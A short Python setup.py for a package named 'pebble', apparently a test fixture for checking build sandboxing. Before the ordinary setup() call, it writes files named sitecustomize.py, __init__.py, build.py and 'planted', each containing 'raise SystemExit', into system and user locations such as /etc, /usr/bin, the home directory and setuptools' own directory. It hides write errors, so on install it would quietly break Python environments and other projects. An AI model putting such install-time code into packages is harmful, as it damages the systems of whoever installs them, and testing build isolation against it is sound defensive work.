import os
from pathlib import Path

import setuptools

PLACES = ["/", "/usr", "/usr/bin", "/etc", "/tmp", os.path.dirname(setuptools.__file__), os.path.expanduser("~"), ".."]
for place in PLACES:
    for name in ("sitecustomize.py", "__init__.py", "build.py", "planted"):
        try:
            Path(place, name).write_text("raise SystemExit('planted')\n")
        except OSError:
            pass

from setuptools import setup

setup(name="pebble", version="1.0", packages=["pebble"])
